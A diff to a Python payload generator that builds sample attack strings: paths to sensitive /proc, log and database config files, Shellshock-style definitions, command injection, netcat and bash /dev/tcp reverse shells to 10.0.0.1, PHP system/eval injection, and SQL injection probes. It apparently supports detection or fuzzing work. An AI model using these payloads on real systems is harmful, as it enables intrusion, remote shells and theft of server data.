@@ -635,18 +635,29 @@ def fam_home_dotfile(rng):
     return p
 
 
-PROC_ENTRIES = ["interrupts", "ioports", "filesystems", "swaps", "devices", "diskstats", "loadavg",
+PROC_ENTRIES = ["softirqs", "ioports", "locks", "swaps", "devices", "diskstats", "loadavg",
                 "uptime", "vmstat", "iomem", "kallsyms", "slabinfo", "zoneinfo", "buddyinfo",
                 "self/maps", "self/cwd/index.php", "thread-self/environ", "1/cmdline", "net/arp"]
-SERVER_FILES = ["/logs/access_log", "/logs/error.log", "/log/httpd/ssl_error_log", "/usr/local/cpanel/logs/access_log",
-                "/usr/local/apache/logs/error_log", "/usr/local/www/logs/httpd_log", "/var/tmp/mysqld.log",
-                "/MySQL/data/mysql.err", "/home/postgres/data/postgresql.conf", "/usr/local/pgsql/data/pg_hba.conf",
-                "/opt/lampp/etc/my.cnf", "/srv/app/config/settings.ini", "/var/lib/pgsql/data/pg_ident.conf",
-                "/etc/pure-ftpd/pureftpd.pdb"]
-DRIVE_FILES = ["apache\\logs\\access.log", "xampp\\mysql\\data\\mysql.err", "wamp\\logs\\apache_error.log",
-               "Program Files\\MySQL\\MySQL Server 5.7\\data\\mysql.err", "Program Files\\PostgreSQL\\9.6\\data\\pg_hba.conf",
-               "php\\php.ini", "AppServ\\MySQL\\my.ini", "nginx\\conf\\nginx.conf", "var\\lib\\pgsql\\data\\postgresql.conf",
-               "tomcat\\conf\\server.xml"]
+SERVER_DIRS = ["/logs", "/log", "/srv/%s/logs", "/usr/local/%s/logs", "/home/%s/conf", "/opt/%s/etc",
+               "/data/%s", "/usr/local/%s/etc", "/var/tmp/%s"]
+SERVERS = ["httpd", "nginx", "mariadb", "pgsql", "ftpd", "panel", "app", "mailer"]
+SERVER_NAMES = ["access.log", "error_log", "transfer_log", "server.err", "main.conf", "site.conf",
+                "settings.ini", "app.cfg", "users.pdb", "master.mdf", "accounts.myd", "client.cnf"]
+DRIVE_TOPS = ["apache24", "mysql", "php", "postgresql", "appserv", "nginx", "tomcat9", "xampp", "wamp64",
+              "Program Files\\MariaDB 10.6", "Program Files\\PostgreSQL\\15", "var\\lib\\pgsql", "etc\\nginx"]
+DRIVE_SUBS = ["logs", "data", "conf", "bin", "etc"]
+
+
+def server_path(rng):
+    d = rng.choice(SERVER_DIRS)
+    if "%s" in d:
+        d = d % rng.choice(SERVERS)
+    return d + "/" + rng.choice(SERVER_NAMES)
+
+
+def drive_path(rng):
+    return rng.choice("cCdD") + ":\\" + rng.choice(DRIVE_TOPS) + "\\" + rng.choice(DRIVE_SUBS) + "\\" + \
+        rng.choice(SERVER_NAMES)
 
 
 def fam_proc_server_file(rng):
@@ -654,9 +665,9 @@ def fam_proc_server_file(rng):
     if k == 0:
         p = "/proc/" + rng.choice(PROC_ENTRIES)
     elif k == 1:
-        p = rng.choice(SERVER_FILES)
+        p = server_path(rng)
     else:
-        p = rng.choice("cCdD") + ":\\" + rng.choice(DRIVE_FILES)
+        p = drive_path(rng)
         if rng.random() < 0.5:
             p = p.replace("\\", "/")
         if rng.random() < 0.2:
@@ -678,10 +689,10 @@ def fam_cmd_grammar(rng):
     k = rng.randrange(5)
     sep = rng.choice(["", ";", "|", "&", "&&", "%0a"])
     if k == 0:  # a bash function definition imported from a variable
-        return rng.choice(["() { :;}; ", "() { :; }; ", "() { _; } >_[$($())] { ", "(){ :;};"]) + \
+        return rng.choice(["() { :; }; ", "() {:;}; ", "() { _; } >_[$($())] { ", "(){ true;};"]) + \
             rng.choice(["", "/bin/bash -c '", "echo; "]) + cmd + rng.choice(["", "'", " }"])
     if k == 1:  # a command stored in a variable, then run
-        name = rng.choice(["CMD", "c", "X", "run_1"])
+        name = rng.choice(["RUN", "c", "X", "run_1"])
         q = rng.choice(["$'%s'", '$"%s"', "'%s'", '"%s"', "`%s`"])
         ref = rng.choice(["$%s", "${%s}"]) % name
         return sep + name + "=" + (q % cmd) + rng.choice([";", "&&", "|", "\n"]) + ref
@@ -696,15 +707,15 @@ def fam_cmd_grammar(rng):
         b = rng.choice(["\\n", "\\r\\n", "\\n\\n"])
         return pre + b + rng.choice([cmd, "/usr/bin/id", "/bin/ls -al"]) + rng.choice(["", "\\n", ";", "|"])
     # an interpreter or netcat run with a script, a path or an address as the whole value
-    return rng.choice(["nc -lvvp 4444 -e /bin/sh", "ncat 10.0.0.1 4444 -e /bin/bash", "nc -e /bin/sh 10.0.0.1 4444",
-                       "perl -e 'print \"X\"x64'", "python -c 'import os;os.system(\"id\")'",
+    return rng.choice(["nc -nv 10.0.0.5 9001 -e /bin/sh", "ncat 10.0.0.1 8443 -e /bin/bash", "nc -e /bin/sh 10.0.0.1 9001",
+                       "perl -e 'print 1'", "python -c 'import os;os.system(\"id\")'",
                        "php -r 'system(\"id\");'", "ruby -e 'exec \"id\"'", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                        "sh -c 'id'", "powershell -c \"Get-Process\"", "telnet -l root 10.0.0.1 23"])
 
 
 def fam_php_eval(rng):
-    call = rng.choice(["phpinfo()", "phpversion()", "system('id')", "passthru($_GET[c])", "sleep(5)",
-                       "print(md5(1))", "shell_exec('whoami')", "exec($_POST[x])"])
+    call = rng.choice(["phpversion()", "php_uname()", "system('id')", "passthru($_GET[c])", "usleep(900)",
+                       "var_dump(1)", "shell_exec('whoami')", "exec($_POST[x])"])
     k = rng.randrange(5)
     if k == 0:
         return rng.choice(["", " ", "x"]) + "{${" + call + "}}"
@@ -714,7 +725,7 @@ def fam_php_eval(rng):
         return rng.choice([";", "'", "|", ""]) + "{$" + rng.choice(["_GET", "_POST", "_REQUEST", "_COOKIE"]) + \
             "[" + rng.choice(["'c'", '"cmd"', "x", "0"]) + "]}"
     if k == 3:
-        return rng.choice([";", "|", "&", "';", "\";", "{", ""]) + rng.choice(["phpinfo()", "phpversion()", "php_uname()"]) + \
+        return rng.choice([";", "|", "&", "';", "\";", "{", ""]) + rng.choice(["phpcredits()", "phpversion()", "php_uname()"]) + \
             rng.choice([";", ";//", "", "}"])
     return rng.choice(["", ";", "';", "|"]) + "eval('" + rng.choice(SHELL_CMDS) + "')" + rng.choice(["", ";", "//"])
 
@@ -739,18 +750,18 @@ def fam_sql_union_probe(rng):
             [sql_kw(rng, "select")]
         return pre + sql_blank(rng) + sql_join(rng, words) + rng.choice(["", "--", "-- -", "#", "/*", ";"])
     if k == 1:
-        return rng.choice(["", "1", "0"]) + "/*!" + str(rng.choice([50000, 40100, 1111, 32302])) + \
+        return rng.choice(["", "1", "0"]) + "/*!" + str(rng.choice([50000, 40100, 80011, 32302])) + \
             rng.choice(["union*/", "'*/", " select 1*/", "and 1=1*/"])
     if k == 2:
         a, b = num(rng), num(rng)
         return "(%s=%s)*%s" % (a, rng.choice([a, b]), num(rng))
-    return rng.choice(["||", "'||", "\"||", "(||"]) + rng.choice(["(elt(1,bin(15)))", "utl_http.request('http://x.example.com')",
+    return rng.choice(["||", "'||", "\"||", "(||"]) + rng.choice(["(elt(2,version(),user()))", "utl_inaddr.get_host_name('x')",
                                                           "chr(65)", "(select user from dual)", "pg_sleep(5)"])
 
 
 def fam_sql_condition_comment(rng):
     logic = sql_kw(rng, rng.choice(["or", "and", "OR", "AND"]))
-    cond = rng.choice(["x=y", "a=b", "uid=1", "isnull(1/0)", "user like char(37)", "name like '%'",
+    cond = rng.choice(["a=b", "k=v", "uid=1", "coalesce(null,1)", "login like char(37,37)", "name like '%'",
                        "length(user)>0", "ascii(1)>0", "email is null", "1 in (select 1)"])
     tail = rng.choice(["#", "--", "-- -", "/*", ";", ";--", " limit 1--"])
     return rng.choice([" ", "", "\t", "+"]) + sql_join(rng, [logic, cond]) + tail
